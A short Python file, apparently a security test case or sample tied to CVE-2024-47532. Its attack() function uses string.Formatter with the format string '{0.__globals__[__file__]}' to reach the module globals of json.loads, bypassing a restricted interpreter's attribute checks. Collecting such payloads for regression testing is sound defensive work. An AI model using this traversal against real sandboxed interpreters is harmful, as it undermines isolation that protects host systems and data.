# `string` by way of a module that uses it.
# after: interpreter
# source: CVE-2024-47532 (GHSA-5rfv-66g4-jr8h)
import json
import textwrap
def attack(**_):
    import string
    return {"text": vars(string)["Formatter"]().format("{0.__globals__[__file__]}", json.loads)}
